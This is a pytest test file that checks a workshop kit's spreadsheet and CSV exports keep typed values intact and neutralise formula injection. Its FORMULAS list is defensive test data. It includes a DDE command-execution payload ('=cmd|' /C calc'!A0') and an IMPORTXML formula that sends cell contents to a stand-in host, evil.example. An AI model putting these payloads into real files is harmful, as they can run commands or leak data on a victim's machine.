"""What spreadsheets read is what was typed, number for number, and they run none of it.

`pytest -s` prints what was counted. With --heavy LibreOffice itself opens the workbook and the CSV files.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import hostile
import openpyxl
import pandas as pd
import pytest
from pandas.testing import assert_frame_equal

from workshop_kit import document
from workshop_kit.exporting import sheets
from workshop_kit.model import Workshop
from workshop_kit.resources import folder
from workshop_kit.tables import COLUMNS

FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com")', "＝1",
    "＠SUM(A1)", "  =2+3", '=IMPORTXML(CONCAT("//evil.example/",A1),"//a")', "Tea;=1+1;", 'Tea"; "=1+1', "=1_x000D_",
)  # fmt: skip
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

#: One more of what people type: letters that XML and spreadsheets have a use for.
ODD = ("_x0041_ & <b>", "0042", "1e5", "TRUE", "2026-03-05", "Zoë\nline two", "👩🏽‍🍳 窓際 مقهى", "'quoted", " spaces ")


@pytest.fixture(scope="module", params=["sample", "formulas and odd letters"])
def workshop(request: pytest.FixtureRequest) -> Workshop:
    if request.param == "sample":
        return document.read(folder("data/sample") / "cafe.workshop.yaml")
    return hostile.workshop((*FORMULAS, *ODD))


@pytest.fixture(scope="module")
def workbook(workshop: Workshop) -> bytes:
    return sheets.workbook(workshop)


def meant(workshop: Workshop) -> dict[str, pd.DataFrame]:
    """The tables as they should be read; text where nothing is, is empty."""
    return {sheets._title(name): table for name, table in sheets._tables(workshop, None)}


def same(found: dict[str, pd.DataFrame], workshop: Workshop) -> int:
    """Compare all tables, value for value; how many values there were."""
    wanted = meant(workshop)
    assert list(found) == list(wanted)
    for name, table in wanted.items():
        plain = table.astype(object).where(table.notna(), None)
        read = found[name].astype(object).where(found[name].notna(), None)
        assert_frame_equal(read.replace({"": None}), plain.replace({"": None}), check_dtype=False, obj=name)
    return sum(table.size for table in wanted.values())


@pytest.mark.parametrize("engine", ["openpyxl", "calamine"])
def test_two_readers_find_equal_values(workshop: Workshop, workbook: bytes, engine: str) -> None:
    found = pd.read_excel(io.BytesIO(workbook), sheet_name=None, engine=engine, keep_default_na=False, na_values=[""])
    if engine == "openpyxl":
        # It leaves the mark by which Excel knows that _x000D_ was typed and is no line break.
        found = {name: table.replace("_x005F_", "_", regex=True) for name, table in found.items()}
    assert same(found, workshop) > 400


def test_the_workbook_has_no_formula_and_columns_as_wide_as_what_they_hold(workbook: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    assert book.sheetnames == [sheets._title(name) for name in COLUMNS]
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    risky = [cell for cell in cells if cell.value.startswith(RUNS)]
    print(f"{len(FORMULAS)} payloads × {len(hostile.places())} fields: {len(risky)} risky cells of {len(cells)}")
    assert {(cell.data_type, bool(cell.quotePrefix)) for cell in risky} <= {("s", True)}
    assert not [cell for cell in cells if cell.data_type == "f"]
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        for column in sheet.iter_cols():
            longest = max(len(line) for cell in column for line in str(cell.value or "").split("\n"))
            width = sheet.column_dimensions[column[0].column_letter].width
            assert width == pytest.approx(min(longest, sheets._WIDEST) + 2, abs=6)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_csv_file_begins_like_a_formula(separator: str) -> None:
    """A spreadsheet parts columns where its country does: at ; in half of Europe."""
    cells = 0
    with zipfile.ZipFile(io.BytesIO(sheets.archive(hostile.workshop(FORMULAS)))) as file:
        for name in file.namelist():
            # Quotes that do not stand at a cell's beginning are letters like others; lines end in the middle of texts.
            lines = file.read(name).decode("utf-8-sig").splitlines()
            for cell in (cell for line in lines for cell in line.split(separator)):
                said = cell.strip('" ')
                assert not said.startswith(RUNS) or re.fullmatch(r"-?\d+(\.\d+)?", said), cell
                cells += 1
    assert cells > 400


@pytest.fixture(scope="module")
def office() -> str:
    """LibreOffice; without it these tests are skipped on a laptop and fail where all is checked."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        lacking = "LibreOffice is not installed: on Debian and Ubuntu, `sudo apt install libreoffice-calc-nogui`"
        pytest.fail(lacking) if os.environ.get("CI") else pytest.skip(lacking)
    return found


def converted(office: str, file: Path, form: str) -> Path:
    """The file as LibreOffice writes it after opening it, in a folder of its own."""
    out = file.parent / "out"
    home = f"-env:UserInstallation={(file.parent / 'profile').as_uri()}"
    command = [office, "--headless", "--norestore", home, "--convert-to", form, "--outdir", str(out), str(file)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    made = out / f"{file.stem}.{form.partition(':')[0]}"
    assert made.exists(), done.stdout + done.stderr
    return made


@pytest.mark.heavy
def test_libreoffice_opens_the_workbook_with_equal_values_and_widths(
    office: str, workshop: Workshop, workbook: bytes, tmp_path: Path
) -> None:
    file = tmp_path / "workshop.xlsx"
    file.write_bytes(workbook)
    again = converted(office, file, "xlsx")
    found = pd.read_excel(again, sheet_name=None, engine="calamine", keep_default_na=False, na_values=[""])
    print(f"LibreOffice and pandas agree on {same(found, workshop)} values")
    ours, theirs = openpyxl.load_workbook(file), openpyxl.load_workbook(again)
    for sheet in theirs:
        formulas = {cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"}
        # This is how LibreOffice writes yes and no.
        assert formulas <= {"=TRUE()", "=FALSE()"}
        widths = {letter: one.width for letter, one in ours[sheet.title].column_dimensions.items()}
        for letter, column in sheet.column_dimensions.items():
            assert column.width == pytest.approx(widths[letter], rel=0.05)
